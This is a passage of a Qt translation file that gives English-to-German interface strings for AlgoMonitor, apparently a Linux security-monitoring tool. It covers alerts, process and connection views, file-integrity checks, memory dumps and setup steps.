        <source>Taken back</source>
        <translation>Zurückgenommen</translation>
    </message>
    <message>
        <source>Saved the evidence</source>
        <translation>Die Beweise gesichert</translation>
    </message>
    <message>
        <source>Asked what to do</source>
        <translation>Gefragt, was zu tun ist</translation>
    </message>
    <message>
        <source>Dropped the connection</source>
        <translation>Die Verbindung getrennt</translation>
    </message>
    <message>
        <source>Blocked the address</source>
        <translation>Die Adresse gesperrt</translation>
    </message>
    <message>
        <source>killed</source>
        <translation>beendet</translation>
    </message>
    <message>
        <source>killed with everything below it</source>
        <translation>mit allem darunter beendet</translation>
    </message>
    <message>
        <source>allowed to go on</source>
        <translation>fortgesetzt</translation>
    </message>
    <message>
        <source>kept suspended</source>
        <translation>angehalten gelassen</translation>
    </message>
    <message>
        <source>Info</source>
        <translation>Info</translation>
    </message>
    <message>
        <source>Warning</source>
        <translation>Warnung</translation>
    </message>
    <message>
        <source>Alert</source>
        <translation>Alarm</translation>
    </message>
    <message>
        <source>Error</source>
        <translation>Fehler</translation>
    </message>
    <message>
        <source>New</source>
        <translation>Neu</translation>
    </message>
    <message>
        <source>Suspended</source>
        <translation>Angehalten</translation>
    </message>
    <message>
        <source>Killed</source>
        <translation>Beendet</translation>
    </message>
    <message>
        <source>Allowed</source>
        <translation>Erlaubt</translation>
    </message>
    <message>
        <source>Resumed</source>
        <translation>Fortgesetzt</translation>
    </message>
    <message>
        <source>Resolved</source>
        <translation>Erledigt</translation>
    </message>
    <message>
        <source>Ended by itself</source>
        <translation>Von selbst geendet</translation>
    </message>
    <message>
        <source>Certain</source>
        <translation>Sicher</translation>
    </message>
    <message>
        <source>Likely</source>
        <translation>Wahrscheinlich</translation>
    </message>
    <message>
        <source>done</source>
        <translation>getan</translation>
    </message>
    <message>
        <source>failed</source>
        <translation>fehlgeschlagen</translation>
    </message>
    <message>
        <source>refused</source>
        <translation>abgelehnt</translation>
    </message>
    <message>
        <source>not done</source>
        <translation>nicht getan</translation>
    </message>
    <message>
        <source>Observe</source>
        <translation>Beobachten</translation>
    </message>
    <message>
        <source>Ask</source>
        <translation>Fragen</translation>
    </message>
    <message>
        <source>Enforce</source>
        <translation>Durchsetzen</translation>
    </message>
    <message>
        <source>Records what happens and stops nothing.</source>
        <translation>Zeichnet auf, was geschieht, und stoppt nichts.</translation>
    </message>
    <message>
        <source>Suspends what is certainly dangerous and asks you.</source>
        <translation>Hält an, was sicher gefährlich ist, und fragt Sie.</translation>
    </message>
    <message>
        <source>Stops what is certainly dangerous at once, without asking.</source>
        <translation>Stoppt sofort und ohne zu fragen, was sicher gefährlich ist.</translation>
    </message>
    <message>
        <source>unnamed</source>
        <translation>namenlos</translation>
    </message>
    <message>
        <source>unknown</source>
        <translation>unbekannt</translation>
    </message>
    <message>
        <source>%1 (only in memory)</source>
        <translation>%1 (nur im Speicher)</translation>
    </message>
    <message>
        <source>%1 (deleted)</source>
        <translation>%1 (gelöscht)</translation>
    </message>
    <message>
        <source>user %1</source>
        <translation>Benutzer %1</translation>
    </message>
    <message>
        <source>%1, out to %2</source>
        <translation>%1, hinaus zu %2</translation>
    </message>
    <message>
        <source>%1, in from %2 to port %3</source>
        <translation>%1, herein von %2 zu Port %3</translation>
    </message>
    <message>
        <source>%1 with %2</source>
        <translation>%1 mit %2</translation>
    </message>
    <message>
        <source>Tell you</source>
        <translation>Ihnen melden</translation>
    </message>
    <message>
        <source>Suspend the processes</source>
        <translation>Die Prozesse anhalten</translation>
    </message>
    <message>
        <source>Kill the process</source>
        <translation>Den Prozess beenden</translation>
    </message>
    <message>
        <source>Kill the process and everything below it</source>
        <translation>Den Prozess mit allem darunter beenden</translation>
    </message>
    <message>
        <source>Allow once</source>
        <translation>Einmal erlauben</translation>
    </message>
    <message>
        <source>Always allow from now on</source>
        <translation>Von jetzt an immer erlauben</translation>
    </message>
    <message>
        <source>Mark as looked at</source>
        <translation>Als angesehen vermerken</translation>
    </message>
    <message>
        <source>Take back</source>
        <translation>Zurücknehmen</translation>
    </message>
    <message>
        <source>Save the evidence</source>
        <translation>Die Beweise sichern</translation>
    </message>
    <message>
        <source>Ask what to do</source>
        <translation>Fragen, was zu tun ist</translation>
    </message>
    <message>
        <source>Drop the connection</source>
        <translation>Die Verbindung trennen</translation>
    </message>
    <message>
        <source>Block the address</source>
        <translation>Die Adresse sperren</translation>
    </message>
    <message>
        <source>Kept the processes suspended</source>
        <translation>Die Prozesse angehalten gelassen</translation>
    </message>
    <message>
        <source>Keep the processes suspended</source>
        <translation>Die Prozesse angehalten lassen</translation>
    </message>
    <message>
        <source>not yet</source>
        <translation>noch nicht</translation>
    </message>
</context>
<context>
    <name>ui::AlwaysAllowDialog</name>
    <message>
        <source>Always allow</source>
        <translation>Immer erlauben</translation>
    </message>
    <message>
        <source>Always allow exactly this?</source>
        <translation>Genau dies immer erlauben?</translation>
    </message>
    <message>
        <source>The rule “%1” stays silent when all the chosen conditions hold. The more are chosen, the less can hide behind them.</source>
        <translation>Die Regel „%1“ schweigt, wenn alle gewählten Bedingungen zutreffen. Je mehr gewählt sind, desto weniger kann sich dahinter verstecken.</translation>
    </message>
    <message>
        <source>Your password is asked for. The entry can be taken back at any time.</source>
        <translation>Ihr Passwort wird verlangt. Der Eintrag lässt sich jederzeit zurücknehmen.</translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation>Abbrechen</translation>
    </message>
</context>
<context>
    <name>ui::AncestryView</name>
    <message>
        <source>not hashed</source>
        <translation>ohne Prüfsumme</translation>
    </message>
    <message>
        <source>Process</source>
        <translation>Prozess</translation>
    </message>
    <message>
        <source>Executable</source>
        <translation>Programmdatei</translation>
    </message>
    <message>
        <source>Package</source>
        <translation>Paket</translation>
    </message>
    <message>
        <source>SHA-256</source>
        <translation>SHA-256</translation>
    </message>
    <message>
        <source>Ancestry</source>
        <translation>Herkunft</translation>
    </message>
    <message>
        <source>Who started whom, the first at the top</source>
        <translation>Wer wen gestartet hat, der erste zuoberst</translation>
    </message>
</context>
<context>
    <name>ui::BaselineStep</name>
    <message>
        <source>What is here now</source>
        <translation>Was jetzt hier ist</translation>
    </message>
    <message>
        <source>This was running before AlgoMonitor knew the computer. Is it all yours?</source>
        <translation>Das lief schon, bevor AlgoMonitor den Rechner kannte. Gehört das alles Ihnen?</translation>
    </message>
    <message>
        <source>Take it as usual</source>
        <translation>Als üblich annehmen</translation>
    </message>
    <message>
        <source>Look at the listeners one by one afterwards</source>
        <translation>Die Lauscher danach einzeln ansehen</translation>
    </message>
    <message>
        <source>could not be read</source>
        <translation>nicht lesbar</translation>
    </message>
    <message>
        <source>Waiting for callers</source>
        <translation>Warten auf Anrufer</translation>
    </message>
    <message>
        <source>nobody</source>
        <translation>niemand</translation>
    </message>
    <message>
        <source>Your programs of no package</source>
        <translation>Ihre Programme ohne Paket</translation>
    </message>
    <message>
        <source>none</source>
        <translation>keine</translation>
    </message>
    <message>
        <source>Started by themselves at login</source>
        <translation>Starten bei der Anmeldung von selbst</translation>
    </message>
    <message>
        <source>%1 at %2, reached by: %3</source>
        <translation>%1 an %2, erreichbar für: %3</translation>
    </message>
    <message>
        <source>%1: %2</source>
        <translation>%1: %2</translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation>und %1 weitere</translation>
    </message>
</context>
<context>
    <name>ui::BlockPanel</name>
    <message>
        <source>Blocked addresses</source>
        <translation>Gesperrte Adressen</translation>
    </message>
    <message>
        <source>%1 left</source>
        <translation>noch %1</translation>
    </message>
    <message>
        <source>Unblock</source>
        <translation>Freigeben</translation>
    </message>
    <message>
        <source>Unblock %1</source>
        <translation>%1 freigeben</translation>
    </message>
    <message>
        <source>and %1 more; algomonitorctl blocks lists them all</source>
        <translation>und %1 weitere; algomonitorctl blocks nennt sie alle</translation>
    </message>
</context>
<context>
    <name>ui::BusiestPanel</name>
    <message>
        <source>Busiest now</source>
        <translation>Am meisten beschäftigt</translation>
    </message>
    <message>
        <source>Everything is idle.</source>
        <translation>Alles ist untätig.</translation>
    </message>
    <message>
        <source>All processes</source>
        <translation>Alle Prozesse</translation>
    </message>
</context>
<context>
    <name>ui::ConfirmDialog</name>
    <message>
        <source>and %1 more</source>
        <translation>und %1 weitere</translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation>Abbrechen</translation>
    </message>
</context>
<context>
    <name>ui::ConnectionTableModel</name>
    <message>
        <source>Program</source>
        <translation>Programm</translation>
    </message>
    <message>
        <source>Who holds the connection</source>
        <translation>Wem die Verbindung gehört</translation>
    </message>
    <message>
        <source>With</source>
        <translation>Mit</translation>
    </message>
    <message>
        <source>The other end, with its name where it was seen; of a listener, who can reach it</source>
        <translation>Die andere Seite, mit ihrem Namen, wo er gesehen wurde; bei einem Lauscher, wer ihn erreicht</translation>
    </message>
    <message>
        <source>Own end</source>
        <translation>Eigene Seite</translation>
    </message>
    <message>
        <source>Address and port of this computer</source>
        <translation>Adresse und Port dieses Rechners</translation>
    </message>
    <message>
        <source>State</source>
        <translation>Zustand</translation>
    </message>
    <message>
        <source>What the connection is doing</source>
        <translation>Was die Verbindung tut</translation>
    </message>
    <message>
        <source>In</source>
        <translation>Ein</translation>
    </message>
    <message>
        <source>Received, bytes a second</source>
        <translation>Empfangen, Bytes in der Sekunde</translation>
    </message>
    <message>
        <source>Out</source>
        <translation>Aus</translation>
    </message>
    <message>
        <source>Sent, bytes a second</source>
        <translation>Gesendet, Bytes in der Sekunde</translation>
    </message>
    <message>
        <source>User</source>
        <translation>Benutzer</translation>
    </message>
    <message>
        <source>On whose behalf</source>
        <translation>In wessen Auftrag</translation>
    </message>
    <message>
        <source>Since</source>
        <translation>Seit</translation>
    </message>
    <message>
        <source>When it was opened; – for what was there before the helper</source>
        <translation>Wann sie geöffnet wurde; – für das, was vor dem Helfer da war</translation>
    </message>
</context>
<context>
    <name>ui::ConnectionText</name>
    <message>
        <source>Connected</source>
        <translation>Verbunden</translation>
    </message>
    <message>
        <source>Listens</source>
        <translation>Lauscht</translation>
    </message>
    <message>
        <source>Open</source>
        <translation>Offen</translation>
    </message>
    <message>
        <source>Calling</source>
        <translation>Ruft an</translation>
    </message>
    <message>
        <source>Being called</source>
        <translation>Wird angerufen</translation>
    </message>
    <message>
        <source>Closing</source>
        <translation>Schließt</translation>
    </message>
    <message>
        <source>Closed</source>
        <translation>Geschlossen</translation>
    </message>
    <message>
        <source>Hung up</source>
        <translation>Aufgelegt</translation>
    </message>
    <message>
        <source>This computer only</source>
        <translation>Nur dieser Rechner</translation>
    </message>
    <message>
        <source>The local network</source>
        <translation>Das lokale Netz</translation>
    </message>
    <message>
        <source>Anybody</source>
        <translation>Jeder</translation>
    </message>
    <message>
        <source>not known</source>
        <translation>nicht bekannt</translation>
    </message>
    <message>
        <source>process</source>
        <translation>Prozess</translation>
    </message>
    <message>
        <source>any</source>
        <translation>alle</translation>
    </message>
</context>
<context>
    <name>ui::CountdownBar</name>
    <message>
        <source>decided as configured</source>
        <translation>entschieden wie vorgegeben</translation>
    </message>
    <message>
        <source>The time is over: it is %1.</source>
        <translation>Die Zeit ist um: es wird %1.</translation>
    </message>
    <message>
        <source>Suspended and waiting for you. Without an answer it is %1.</source>
        <translation>Angehalten und wartet auf Sie. Ohne Antwort wird es %1.</translation>
    </message>
</context>
<context>
    <name>ui::CpuPanel</name>
    <message>
        <source>Processor</source>
        <translation>Prozessor</translation>
    </message>
    <message>
        <source>Processor chart</source>
        <translation>Prozessordiagramm</translation>
    </message>
    <message>
        <source>Total</source>
        <translation>Gesamt</translation>
    </message>
    <message>
        <source>Cores</source>
        <translation>Kerne</translation>
    </message>
    <message>
        <source>Processor use over time</source>
        <translation>Prozessornutzung im Verlauf</translation>
    </message>
    <message>
        <source>average %1, peak %2 in the last %3</source>
        <translation>im Mittel %1, höchstens %2 in den letzten %3</translation>
    </message>
    <message>
        <source>Now %1, %2</source>
        <translation>Jetzt %1, %2</translation>
    </message>
</context>
<context>
    <name>ui::DriftTableModel</name>
    <message>
        <source>File</source>
        <translation>Datei</translation>
    </message>
    <message>
        <source>The protected file</source>
        <translation>Die geschützte Datei</translation>
    </message>
    <message>
        <source>What</source>
        <translation>Was</translation>
    </message>
    <message>
        <source>What about it is another</source>
        <translation>Was an ihr anders ist</translation>
    </message>
    <message>
        <source>Who</source>
        <translation>Wer</translation>
    </message>
    <message>
        <source>The program that changed it last</source>
        <translation>Das Programm, das sie zuletzt geändert hat</translation>
    </message>
    <message>
        <source>When</source>
        <translation>Wann</translation>
    </message>
    <message>
        <source>The last change</source>
        <translation>Die letzte Änderung</translation>
    </message>
    <message>
        <source>Before → now</source>
        <translation>Vorher → jetzt</translation>
    </message>
    <message>
        <source>Rights, owner, size or target</source>
        <translation>Rechte, Besitzer, Größe oder Ziel</translation>
    </message>
</context>
<context>
    <name>ui::DumpDialog</name>
    <message>
        <source>Dumps larger than %1 are not made: “Largest dump” in the settings.</source>
        <translation>Größere Abbilder als %1 werden nicht gemacht: „Größtes Abbild“ in den Einstellungen.</translation>
    </message>
    <message>
        <source>There is hardly room for it: it may be refused.</source>
        <translation>Dafür ist kaum Platz: Es kann abgelehnt werden.</translation>
    </message>
    <message>
        <source>Passwords, keys and messages that the program holds are in it. Only root can read the file. The program stands still for a moment.</source>
        <translation>Passwörter, Schlüssel und Nachrichten, die das Programm hält, stehen darin. Nur root kann die Datei lesen. Das Programm steht einen Augenblick still.</translation>
    </message>
    <message>
        <source>Also if it is there to keep secrets</source>
        <translation>Auch wenn es Geheimnisse hüten soll</translation>
    </message>
    <message>
        <source>Stop the dump</source>
        <translation>Abbild abbrechen</translation>
    </message>
    <message>
        <source>Save memory</source>
        <translation>Speicher sichern</translation>
    </message>
    <message>
        <source>Save the memory of %1?</source>
        <translation>Den Speicher von %1 sichern?</translation>
    </message>
    <message>
        <source>Progress of the dump</source>
        <translation>Fortschritt des Abbilds</translation>
    </message>
    <message>
        <source>Password managers, agents of keys, and programs that do not let themselves be saved</source>
        <translation>Passwortverwaltungen, Schlüsselagenten und Programme, die sich nicht sichern lassen</translation>
    </message>
    <message>
        <source>It holds now</source>
        <translation>Es hält jetzt</translation>
    </message>
    <message>
        <source>about %1; the file is smaller, it is compressed</source>
        <translation>etwa %1; die Datei ist kleiner, sie wird gepackt</translation>
    </message>
    <message>
        <source>not known; its size is found out first</source>
        <translation>unbekannt; die Größe wird erst ermittelt</translation>
    </message>
    <message>
        <source>Kept in</source>
        <translation>Aufbewahrt in</translation>
    </message>
    <message>
        <source>the helper&apos;s own directory</source>
        <translation>im Ordner des Helfers</translation>
    </message>
    <message>
        <source>Free there</source>
        <translation>Dort frei</translation>
    </message>
    <message>
        <source>%1, of which %2 are left alone</source>
        <translation>%1, davon bleiben %2 unberührt</translation>
    </message>
    <message>
        <source>Saving…</source>
        <translation>Wird gesichert…</translation>
    </message>
    <message>
        <source>Saving: %1 %</source>
        <translation>Wird gesichert: %1 %</translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation>Abbrechen</translation>
    </message>
    <message>
        <source>Close</source>
        <translation>Schließen</translation>
    </message>
    <message>
        <source>Waiting for the password…</source>
        <translation>Wartet auf das Passwort…</translation>
    </message>
    <message>
        <source>The memory of %1</source>
        <translation>Der Speicher von %1</translation>
    </message>
</context>
<context>
    <name>ui::EverydayStep</name>
    <message>
        <source>Every day</source>
        <translation>Jeden Tag</translation>
    </message>
    <message>
        <source>The helper watches whether you are logged in or not. This is about how it reaches you.</source>
        <translation>Der Helfer wacht, ob Sie angemeldet sind oder nicht. Hier geht es darum, wie er Sie erreicht.</translation>
    </message>
    <message>
        <source>Start the shield when I log in</source>
        <translation>Den Schild starten, wenn ich mich anmelde</translation>
    </message>
    <message>
        <source>Show a notification</source>
        <translation>Eine Benachrichtigung zeigen</translation>
    </message>
    <message>
        <source>Warnings come together every ten seconds, danger at once. Each can be silenced for a while.</source>
        <translation>Warnungen kommen alle zehn Sekunden gesammelt, Gefahr sofort. Jede lässt sich eine Zeit lang stumm schalten.</translation>
    </message>
    <message>
        <source>Left click opens the window, middle click the processes, right click the menu.</source>
        <translation>Linksklick öffnet das Fenster, Mittelklick die Prozesse, Rechtsklick das Menü.</translation>
    </message>
    <message>
        <source>No panel shows icons here (GNOME needs an extension for it): AlgoMonitor lives in the background then, notifications stay until they are answered, and the launcher opens the window.</source>
        <translation>Keine Leiste zeigt hier Symbole (GNOME braucht dafür eine Erweiterung): AlgoMonitor lebt dann im Hintergrund, Benachrichtigungen bleiben, bis sie beantwortet sind, und der Starter öffnet das Fenster.</translation>
    </message>
</context>
<context>
    <name>ui::FailuresPanel</name>
    <message>
        <source>Refused logins</source>
        <translation>Abgewiesene Anmeldungen</translation>
    </message>
    <message>
        <source>None was raised.</source>
        <translation>Keine wurde gemeldet.</translation>
    </message>
</context>
<context>
    <name>ui::FileText</name>
    <message>
        <source>%1 bytes</source>
        <translation>%1 Bytes</translation>
    </message>
    <message>
        <source>New</source>
        <translation>Neu</translation>
    </message>
    <message>
        <source>Deleted</source>
        <translation>Gelöscht</translation>
    </message>
    <message>
        <source>Content</source>
        <translation>Inhalt</translation>
    </message>
    <message>
        <source>Rights</source>
        <translation>Rechte</translation>
    </message>
    <message>
        <source>Link</source>
        <translation>Verweis</translation>
    </message>
    <message>
        <source>Changed</source>
        <translation>Geändert</translation>
    </message>
    <message>
        <source>%1 was not there before.</source>
        <translation>%1 war vorher nicht da.</translation>
    </message>
    <message>
        <source>%1 is gone.</source>
        <translation>%1 ist weg.</translation>
    </message>
    <message>
        <source>%1 has other contents.</source>
        <translation>%1 hat anderen Inhalt.</translation>
    </message>
    <message>
        <source>Others may use %1 now, or use it otherwise.</source>
        <translation>Andere dürfen %1 jetzt benutzen, oder anders benutzen.</translation>
    </message>
    <message>
        <source>%1 points elsewhere.</source>
        <translation>%1 zeigt woandershin.</translation>
    </message>
    <message>
        <source>%1 was changed.</source>
        <translation>%1 wurde geändert.</translation>
    </message>
    <message>
        <source>not known</source>
        <translation>nicht bekannt</translation>
    </message>
    <message>
        <source>process</source>
        <translation>Prozess</translation>
    </message>
    <message>
        <source>other attributes</source>
        <translation>andere Attribute</translation>
    </message>
    <message>
        <source>same size, other contents</source>
        <translation>gleiche Größe, anderer Inhalt</translation>
    </message>
    <message>
        <source>Off</source>
        <translation>Aus</translation>
    </message>
    <message>
        <source>Taking stock</source>
        <translation>Nimmt den Bestand auf</translation>
    </message>
    <message>
        <source>Checking</source>
        <translation>Prüft</translation>
    </message>
    <message>
        <source>Watching</source>
        <translation>Beobachtet</translation>
    </message>
    <message>
        <source>Error</source>
        <translation>Fehler</translation>
    </message>
    <message>
        <source>%1 files</source>
        <translation>%1 Dateien</translation>
    </message>
    <message>
        <source>checked %1, in %2</source>
        <translation>geprüft %1, in %2</translation>
    </message>
    <message>
        <source>%1 cannot be read</source>
        <translation>%1 nicht lesbar</translation>
    </message>
    <message>
        <source>1 file</source>
        <translation>1 Datei</translation>
    </message>
</context>
<context>
    <name>ui::FilesPage</name>
    <message>
        <source>Changed files</source>
        <translation>Geänderte Dateien</translation>
    </message>
    <message>
        <source>Reading what has changed…</source>
        <translation>Es wird gelesen, was sich geändert hat…</translation>
    </message>
    <message>
        <source>Everything is as it was accepted</source>
        <translation>Alles ist, wie es angenommen wurde</translation>
    </message>
    <message>
        <source>No protected file has changed. What changes will stand here, with who did it and what it means.</source>
        <translation>Keine geschützte Datei hat sich geändert. Was sich ändert, steht hier, mit dem, wer es war und was es bedeutet.</translation>
    </message>
    <message>
        <source>No files to show</source>
        <translation>Keine Dateien zu zeigen</translation>
    </message>
    <message>
        <source>You may not see the protected files</source>
        <translation>Sie dürfen die geschützten Dateien nicht sehen</translation>
    </message>
    <message>
        <source>Accept…</source>
        <translation>Annehmen…</translation>
    </message>
    <message>
        <source>The chosen files are right as they are now</source>
        <translation>Die gewählten Dateien sind richtig, wie sie jetzt sind</translation>
    </message>
    <message>
        <source>Accept folder…</source>
        <translation>Ordner annehmen…</translation>
    </message>
    <message>
        <source>Everything below the folder of the chosen file is right as it is</source>
        <translation>Alles unterhalb des Ordners der gewählten Datei ist richtig, wie es ist</translation>
    </message>
    <message>
        <source>Accept all…</source>
        <translation>Alles annehmen…</translation>
    </message>
    <message>
        <source>Everything is right as it is now</source>
        <translation>Alles ist richtig, wie es jetzt ist</translation>
    </message>
    <message>
        <source>Copy</source>
        <translation>Kopieren</translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation>Die gewählten Zeilen als Text kopieren</translation>
    </message>
    <message>
        <source>%1 changed files</source>
        <translation>%1 geänderte Dateien</translation>
    </message>
    <message>
        <source>%1 chosen</source>
        <translation>%1 gewählt</translation>
    </message>
    <message>
        <source>Accept %1 changes?</source>
        <translation>%1 Änderungen annehmen?</translation>
    </message>
    <message>
        <source>The file is right as it is shown here. One that has changed again since is not accepted. Your password is asked for.</source>
        <translation>Die Datei ist richtig, wie sie hier gezeigt wird. Was sich seither wieder geändert hat, wird nicht angenommen. Ihr Passwort wird verlangt.</translation>
    </message>
    <message>
        <source>What it was before is no longer known then.</source>
        <translation>Was sie vorher war, ist dann nicht mehr bekannt.</translation>
    </message>
    <message>
        <source>Accept</source>
        <translation>Annehmen</translation>
    </message>
    <message>
        <source>Accept everything below this folder?</source>
        <translation>Alles unterhalb dieses Ordners annehmen?</translation>
    </message>
    <message>
        <source>All changed files below it are right as they are now, also those that are not in sight. Your password is asked for.</source>
        <translation>Alle geänderten Dateien darunter sind richtig, wie sie jetzt sind, auch die, die nicht zu sehen sind. Ihr Passwort wird verlangt.</translation>
    </message>
    <message>
        <source>What they were before is no longer known then.</source>
        <translation>Was sie vorher waren, ist dann nicht mehr bekannt.</translation>
    </message>
    <message>
        <source>Accept folder</source>
        <translation>Ordner annehmen</translation>
    </message>
    <message>
        <source>Accept everything?</source>
        <translation>Alles annehmen?</translation>
    </message>
    <message>
        <source>All %1 changed files are right as they are now. Whoever changed one of them unseen stays unseen. Your password is asked for.</source>
        <translation>Alle %1 geänderten Dateien sind richtig, wie sie jetzt sind. Wer eine davon ungesehen geändert hat, bleibt ungesehen. Ihr Passwort wird verlangt.</translation>
    </message>
    <message>
        <source>Accept all</source>
        <translation>Alles annehmen</translation>
    </message>
    <message>
        <source>1 changed file</source>
        <translation>1 geänderte Datei</translation>
    </message>
</context>
<context>
    <name>ui::HealthPanel</name>
    <message>
        <source>Sees %1</source>
        <translation>Sieht %1</translation>
    </message>
    <message>
        <source>by a slower way: %1</source>
        <translation>auf langsamerem Weg: %1</translation>
    </message>
    <message>
        <source>does not see %1</source>
        <translation>sieht nicht %1</translation>
    </message>
    <message>
        <source>The queue “%1” was full and dropped %2.</source>
        <translation>Die Warteschlange „%1“ war voll und hat %2 verworfen.</translation>
    </message>
    <message>
        <source>Health</source>
        <translation>Befinden</translation>
    </message>
    <message>
        <source>Connecting to the helper…</source>
        <translation>Verbindung zum Helfer…</translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation>und %1 weitere</translation>
    </message>
    <message>
        <source>Report of the learning period</source>
        <translation>Bericht der Lernzeit</translation>
    </message>
</context>
<context>
    <name>ui::IntegrityPanel</name>
    <message>
        <source>Check now</source>
        <translation>Jetzt prüfen</translation>
    </message>
    <message>
        <source>Stop the check</source>
        <translation>Prüfung abbrechen</translation>
    </message>
    <message>
        <source>Progress of the check</source>
        <translation>Fortschritt der Prüfung</translation>
    </message>
    <message>
        <source>Protected files</source>
        <translation>Geschützte Dateien</translation>
    </message>
    <message>
        <source>%1 % done</source>
        <translation>%1 % geschafft</translation>
    </message>
</context>
<context>
    <name>ui::IntroStep</name>
    <message>
        <source>What AlgoMonitor does</source>
        <translation>Was AlgoMonitor tut</translation>
    </message>
    <message>
        <source>It watches this computer and speaks up when something dangerous happens. On a quiet day the shield in the panel is all you see.</source>
        <translation>Es beobachtet diesen Rechner und meldet sich, wenn etwas Gefährliches geschieht. An einem ruhigen Tag sehen Sie nur den Schild in der Leiste.</translation>
    </message>
    <message>
        <source>Watches</source>
        <translation>Beobachtet</translation>
    </message>
    <message>
        <source>Stops</source>
        <translation>Hält an</translation>
    </message>
    <message>
        <source>A remote shell or a cryptominer is held still and you are asked, before anything is lost. Everything else is only told.</source>
        <translation>Eine fremde Shell oder ein Kryptominer wird angehalten und Sie werden gefragt, bevor etwas verloren ist. Alles andere wird nur gemeldet.</translation>
    </message>
    <message>
        <source>Asks for the password</source>
        <translation>Fragt nach dem Passwort</translation>
    </message>
    <message>
        <source>Whatever weakens the protection needs the administrator&apos;s password: allowing, trusting, settings. Ending your own programs does not.</source>
        <translation>Was den Schutz schwächt, braucht das Passwort der Verwaltung: erlauben, vertrauen, Einstellungen. Eigene Programme zu beenden braucht keines.</translation>
    </message>
    <message>
        <source>The helper is not running: nothing is watched yet.</source>
        <translation>Der Helfer läuft nicht: Noch wird nichts beobachtet.</translation>
    </message>
    <message>
        <source>Watching %1 processes and %2 connections now.</source>
        <translation>Jetzt werden %1 Prozesse und %2 Verbindungen beobachtet.</translation>
    </message>
    <message>
        <source>Some things cannot be seen here: the Overview says which.</source>
        <translation>Manches ist hier nicht zu sehen: Die Übersicht sagt, was.</translation>
    </message>
    <message>
        <source>Programs as they start, who speaks with whom on the network, protected files, logins, and what eats memory and processor time. Nothing of it leaves this computer unless you set that up.</source>
        <translation>Programme beim Start, wer mit wem im Netz spricht, geschützte Dateien, Anmeldungen und was Speicher und Rechenzeit verbraucht. Nichts davon verlässt diesen Rechner, außer Sie richten das ein.</translation>
    </message>
</context>
<context>
    <name>ui::JsonView</name>
    <message>
        <source>General</source>
        <translation>Allgemein</translation>
    </message>
    <message>
        <source>yes</source>
        <translation>ja</translation>
    </message>
    <message>
        <source>no</source>
        <translation>nein</translation>
    </message>
</context>
<context>
    <name>ui::LastAlertsPanel</name>
    <message>
        <source>Last alerts</source>
        <translation>Letzte Alarme</translation>
    </message>
    <message>
        <source>All alerts</source>
        <translation>Alle Alarme</translation>
    </message>
    <message>
        <source>None. Nothing dangerous has been seen.</source>
        <translation>Keine. Es wurde nichts Gefährliches gesehen.</translation>
    </message>
    <message>
        <source>Reading the alerts…</source>
        <translation>Die Alarme werden gelesen…</translation>
    </message>
</context>
<context>
    <name>ui::LearningReport</name>
    <message>
        <source>Learning until %1. New so far: %2 programs, %3 listeners, %4 unusual places.</source>
        <translation>Lernt bis %1. Bisher neu: %2 Programme, %3 Lauscher, %4 ungewöhnliche Orte.</translation>
    </message>
    <message>
        <source>Learning is over. New were: %1, %2, %3.</source>
        <translation>Die Lernzeit ist vorbei. Neu waren: %1, %2, %3.</translation>
    </message>
    <message>
        <source>1 program</source>
        <translation>1 Programm</translation>
    </message>
    <message>
        <source>%1 programs</source>
        <translation>%1 Programme</translation>
    </message>
    <message>
        <source>1 listener</source>
        <translation>1 Lauscher</translation>
    </message>
    <message>
        <source>%1 listeners</source>
        <translation>%1 Lauscher</translation>
    </message>
    <message>
        <source>1 unusual place</source>
        <translation>1 ungewöhnlicher Ort</translation>
    </message>
    <message>
        <source>%1 unusual places</source>
        <translation>%1 ungewöhnliche Orte</translation>
    </message>
</context>
<context>
    <name>ui::LearningReportDialog</name>
    <message>
        <source>Report of the learning period</source>
        <translation>Bericht der Lernzeit</translation>
    </message>
    <message>
        <source>AlgoMonitor knows this computer now</source>
        <translation>AlgoMonitor kennt diesen Rechner jetzt</translation>
    </message>
    <message>
        <source>The learning period ended: %1. This was new meanwhile, and was told to nobody:</source>
        <translation>Ende der Lernzeit: %1. Das war inzwischen neu und wurde niemandem gemeldet:</translation>
    </message>
    <message>
        <source>It counts as usual from now on. What comes new after this is told, once.</source>
        <translation>Es gilt von nun an als üblich. Was danach neu ist, wird gemeldet, einmal.</translation>
    </message>
    <message>
        <source>Programs that ran from unusual places are worth a look: few honest ones live there.</source>
        <translation>Programme an ungewöhnlichen Orten sind einen Blick wert: Nur wenige ehrliche wohnen dort.</translation>
    </message>
    <message>
        <source>Programs</source>
        <translation>Programme</translation>
    </message>
    <message>
        <source>Listeners</source>
        <translation>Lauscher</translation>
    </message>
    <message>
        <source>Unusual places</source>
        <translation>Ungewöhnliche Orte</translation>
    </message>
    <message>
        <source>Look at the processes</source>
        <translation>Prozesse ansehen</translation>
    </message>
    <message>
        <source>Look at the network</source>
        <translation>Netzwerk ansehen</translation>
    </message>
    <message>
        <source>Close</source>
        <translation>Schließen</translation>
    </message>
</context>
<context>
    <name>ui::LinesPanel</name>
    <message>
        <source>%1 over time</source>
        <translation>%1 im Zeitverlauf</translation>
    </message>
    <message>
        <source>%1 %2</source>
        <translation>%1 %2</translation>
    </message>
    <message>
        <source>Now %1</source>
        <translation>Jetzt %1</translation>
    </message>
    <message>
        <source>Network</source>
        <translation>Netzwerk</translation>
    </message>
    <message>
        <source>Received</source>
        <translation>Empfangen</translation>
    </message>
    <message>
        <source>Sent</source>
        <translation>Gesendet</translation>
    </message>
    <message>
        <source>Disks</source>
        <translation>Datenträger</translation>
    </message>
    <message>
        <source>Read</source>
        <translation>Gelesen</translation>
    </message>
    <message>
        <source>Written</source>
        <translation>Geschrieben</translation>
    </message>
    <message>
        <source>Waiting for</source>
        <translation>Warten auf</translation>
    </message>
    <message>
        <source>CPU</source>
        <translation>CPU</translation>
    </message>
    <message>
        <source>Memory</source>
        <translation>Speicher</translation>
    </message>
    <message>
        <source>In how much of the time at least one program had to wait</source>
        <translation>In welchem Teil der Zeit mindestens ein Programm warten musste</translation>
    </message>
</context>
<context>
    <name>ui::ListPage</name>
    <message>
        <source>Search</source>
        <translation>Suchen</translation>
    </message>
    <message>
        <source>Search: %1</source>
        <translation>Suchen: %1</translation>
    </message>
    <message>
        <source>Nothing found</source>
        <translation>Nichts gefunden</translation>
    </message>
    <message>
        <source>Nothing of this kind is there now.</source>
